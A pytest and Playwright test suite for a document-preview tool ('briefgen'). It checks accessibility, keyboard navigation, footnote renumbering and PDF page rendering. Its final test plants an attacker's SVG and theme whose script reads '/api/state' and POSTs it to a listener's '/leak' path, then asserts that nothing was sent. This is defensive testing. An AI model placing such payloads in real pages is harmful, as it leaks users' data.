"""briefgen preview in Chromium (Playwright): axe-core finds no violation in any state, the keyboard reaches a
footnote's panel and comes back, the panel follows its citation through a renumbering, the page view has the
built PDF's pages, and an attacker's theme runs nothing and sends nothing."""

from __future__ import annotations

import http.server
import io
import json
import threading
import time
from pathlib import Path

import pytest

from .preview_support import Preview, until

AXE_TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]


@pytest.fixture(scope="module")
def axe_source() -> str:
    axe = pytest.importorskip("axe_playwright_python", reason="axe-playwright-python (it ships axe-core) is not "
                                                              "installed: pip install -e '.[test]'")
    return (Path(axe.__file__).parent / "axe.min.js").read_text(encoding="utf-8")


def open_page(browser, server: Preview, width: int = 1280, height: int = 900):
    context = browser.new_context(viewport={"width": width, "height": height})
    page = context.new_page()
    page.bg_errors = []
    page.on("pageerror", lambda exc: page.bg_errors.append(str(exc)))
    page.on("console", lambda msg: page.bg_errors.append(msg.text) if msg.type == "error" else None)
    page.goto(server.url)
    page.wait_for_selector("html[data-bg-connected]")
    until(page, "document.querySelector('#bg-brief .bg-call') !== null")
    return page


def violations(page, axe_source: str) -> list:
    if not page.evaluate("typeof axe !== 'undefined'"):
        page.evaluate(axe_source)  # through the DevTools protocol: the page's own CSP still holds for the page
    found = page.evaluate(f"axe.run(document, {{runOnly: {{type: 'tag', values: {json.dumps(AXE_TAGS)}}}}})")
    return [(v["id"], [n["target"] for n in v["nodes"]][:3]) for v in found["violations"]]


def test_axe_finds_nothing_on_the_page_the_panel_search_and_page_view(browser, shared, axe_source):
    page = open_page(browser, shared)
    assert violations(page, axe_source) == []
    page.click("#bg-brief .fn[data-n='1']")
    page.wait_for_selector("#bg-evidence mark")
    assert "null" not in page.inner_text("#bg-evidence")  # a citation without tolerances shows nothing for them
    assert violations(page, axe_source) == [], "panel open"
    page.fill("#bg-search", "الانسحاب")
    page.keyboard.press("Enter")
    page.wait_for_selector("#bg-evidence .bg-hits li")
    assert page.locator("#bg-brief mark.bg-hit").count() >= 1  # hits in the brief, marked where they stand
    assert violations(page, axe_source) == [], "search results"
    page.click("#bg-view-pages")
    until(page, "document.getElementById('bg-pages').dataset.pages > 0", timeout=90)
    assert violations(page, axe_source) == [], "page view"
    box = page.evaluate("(() => { const r = document.querySelector('#bg-brief .bg-call').getBoundingClientRect();"
                        " return [r.width, r.height]; })()")
    assert box == [0, 0]  # the text view is hidden in the page view
    page.click("#bg-view-text")
    box = page.evaluate("(() => { const r = document.querySelector('#bg-brief .bg-call').getBoundingClientRect();"
                        " return [r.width, r.height]; })()")
    assert box[0] >= 24 and box[1] >= 24
    assert page.bg_errors == []
    page.context.close()


def test_axe_finds_nothing_on_a_phone(browser, shared, axe_source):
    page = open_page(browser, shared, width=390, height=844)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390  # laid out for the screen, not 980 px wide
    assert violations(page, axe_source) == []
    page.click("#bg-brief .fn[data-n='3']")
    page.wait_for_selector("#bg-evidence mark, #bg-evidence .bg-para")
    assert violations(page, axe_source) == [], "panel open on a phone"
    page.context.close()


def test_axe_finds_nothing_with_diagnostics_and_an_error_shown(browser, preview, axe_source):
    text = preview.outline.read_text(encoding="utf-8")
    preview.save(text.replace("خشية إنعاش تنظيم داعش من جديد", "خشية إنعاش تنظيم القاعدة من جديد", 1))
    preview.wait_version(1)
    page = open_page(browser, preview)
    assert page.locator("#bg-brief .bg-failed").count() == 1
    assert page.inner_text("#bg-counts") == "1 error, 0 warnings"
    assert violations(page, axe_source) == [], "a fault marked"
    page.click("#bg-counts")
    page.click("#bg-diags .bg-diag-toggle")
    share = page.evaluate("document.getElementById('bg-diags').getBoundingClientRect().height / innerHeight")
    assert 0 < share <= 0.25
    assert violations(page, axe_source) == [], "diagnostics open"
    page.click("#bg-pdf")
    page.wait_for_selector("#bg-alert .bg-alert-box", timeout=60_000)
    shown = page.inner_text("#bg-alert")
    assert "quote not found in source 'hafryat'" in shown and "[-" not in shown  # in the page, no raw diff markup
    assert violations(page, axe_source) == [], "build error shown"
    page.context.close()


def test_a_keyboard_reaches_a_footnote_its_panel_and_comes_back(browser, shared):
    page = open_page(browser, shared)
    active = "document.activeElement"
    page.keyboard.press("Tab")
    assert page.evaluate(f"{active}.classList.contains('bg-skip')")
    assert page.evaluate(f"getComputedStyle({active}).outlineStyle") != "none"  # visible focus
    page.keyboard.press("Enter")
    assert page.evaluate(f"{active}.tagName") == "MAIN"  # the brief's text, past its contents list
    presses = 0
    while presses < 40 and not page.evaluate(f"{active}.classList.contains('bg-call')"):
        page.keyboard.press("Tab")
        presses += 1
    assert presses == 1, presses  # the first footnote is the next stop
    assert page.evaluate(f"{active}.getAttribute('aria-label')") == "Footnote 1"
    assert page.evaluate(f"getComputedStyle({active}).outlineStyle") != "none"
    page.keyboard.press("Enter")
    page.wait_for_selector("#bg-evidence:not([hidden])")
    until(page, f"{active}.closest('#bg-evidence') !== null")  # focus moved into the panel
    assert page.evaluate(f"{active}.textContent").startswith("Footnote 1")
    page.keyboard.press("Shift+Tab")
    assert page.evaluate(f"{active}.classList.contains('bg-close')")
    page.keyboard.press("Enter")
    assert page.is_hidden("#bg-evidence")
    assert page.evaluate(f"{active}.getAttribute('aria-label')") == "Footnote 1"  # back where it started
    page.keyboard.press("Enter")
    until(page, f"{active}.closest('#bg-evidence') !== null")
    page.keyboard.press("Escape")
    assert page.is_hidden("#bg-evidence") and page.evaluate(f"{active}.getAttribute('aria-label')") == "Footnote 1"
    page.context.close()


def test_the_panel_follows_its_citation_through_a_renumbering(browser, preview):
    page = open_page(browser, preview)
    page.click("#bg-brief .fn[data-n='5']")
    page.wait_for_selector("#bg-evidence mark")
    quote = page.inner_text("#bg-evidence mark")
    assert page.inner_text("#bg-evidence h2").startswith("Footnote 5")
    text = preview.outline.read_text(encoding="utf-8")
    anchor = '      - hassan\n  - text: "يتعثر'
    assert anchor in text
    preview.save(text.replace(anchor, '      - hassan\n      - elaph\n  - text: "يتعثر', 1))  # one more note before it
    until(page, "document.querySelector('#bg-evidence h2').textContent.startsWith('Footnote 6')")
    assert page.inner_text("#bg-evidence mark") == quote and "hafryat" in page.inner_text("#bg-evidence h2")
    assert page.locator("#bg-brief .bg-call[aria-expanded=true]").get_attribute("aria-label") == "Footnote 6"
    assert page.get_attribute("#bg-status", "role") == "status"  # a live region: the rebuild is announced
    assert page.inner_text("#bg-status").startswith("updated in") and "0 errors" in page.inner_text("#bg-status")
    assert page.get_attribute("#bg-alert", "role") == "alert"  # errors are announced there
    assert page.bg_errors == []
    page.context.close()


def test_the_page_view_has_the_built_pdfs_pages(browser, preview):
    from pypdf import PdfReader

    page = open_page(browser, preview)
    page.click("#bg-view-pages")
    page.click("#bg-pdf")
    link = page.wait_for_selector("#bg-pdf-link", timeout=120_000)
    pdf = page.request.get(preview.url.rstrip("/") + link.get_attribute("href"))
    assert pdf.status == 200 and pdf.headers["content-type"] == "application/pdf"
    count = len(PdfReader(io.BytesIO(pdf.body())).pages)
    until(page, "document.getElementById('bg-pages').dataset.pages > 0", timeout=120)
    assert page.locator("#bg-pages img.bg-page").count() == count
    assert page.get_attribute("#bg-pages", "data-pages") == str(count)
    until(page, "[...document.querySelectorAll('#bg-pages img')].slice(0, 2)"
                ".every(i => i.complete && i.naturalWidth > 800)")  # the first pages were loaded
    text = preview.outline.read_text(encoding="utf-8")
    preview.save(text.replace("خشية إنعاش تنظيم داعش من جديد", "خشية إنعاش تنظيم القاعدة من جديد", 1))
    until(page, "document.getElementById('bg-pages-status').textContent.includes('earlier version')")
    assert page.locator("#bg-pages img.bg-page").count() == count  # build would refuse it: the last pages stay
    assert page.bg_errors == []
    page.context.close()


class Listener(http.server.ThreadingHTTPServer):
    """Another local port: whatever reaches it is a request that left the preview's page."""

    def __init__(self):
        self.seen: list[str] = []
        seen = self.seen

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                seen.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


def test_an_attackers_svg_in_the_theme_runs_nothing_and_sends_nothing(browser, preview):
    listener = Listener()
    other = f"http://127.0.0.1:{listener.server_address[1]}"
    try:
        svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="location.href=\'{other}/onload\'">'
               f'<image href="{other}/image" width="9" height="9"/><script>'
               f"fetch('/api/state').then(r => r.text()).then(t => fetch('{other}/leak', {{method: 'POST', body: t}}));"
               f"fetch('/api/build', {{method: 'POST'}}); location.href = '{other}/ran';</script></svg>")
        (preview.root / "templates" / "evil.svg").write_text(svg, encoding="utf-8")
        theme = preview.root / "templates" / "brief.html"
        html = theme.read_text(encoding="utf-8")
        framed = (f'<iframe src="/evil.svg" title="x"></iframe><object data="/evil.svg"></object><img src="/evil.svg" '
                  f'alt=""><img src="{other}/img" alt=""><script>location.href = "{other}/inline"</script>'
                  f'<link rel="stylesheet" href="{other}/css"><meta http-equiv="refresh" content="0; url={other}/'
                  '{{ meta.title }}"><form action="' + other + '/form"><button id="go">go</button></form>')
        v = preview.state()["version"]
        preview.save(html.replace("<body>", "<body>" + framed, 1), theme)
        preview.wait_version(v)
        context = browser.new_context()
        page = context.new_page()
        page.goto(preview.url)
        page.wait_for_selector("html[data-bg-connected]")
        page.click("#go", no_wait_after=True, timeout=5000)  # a form sending the page elsewhere
        time.sleep(1.5)
        page.goto(preview.url + "evil.svg", wait_until="commit")  # opened on its own: sandboxed, no script
        time.sleep(1.5)
        context.close()
        assert listener.seen == []
        assert preview.http.get("/api/build").json()["status"] == "idle"
    finally:
        listener.shutdown()
        listener.server_close()
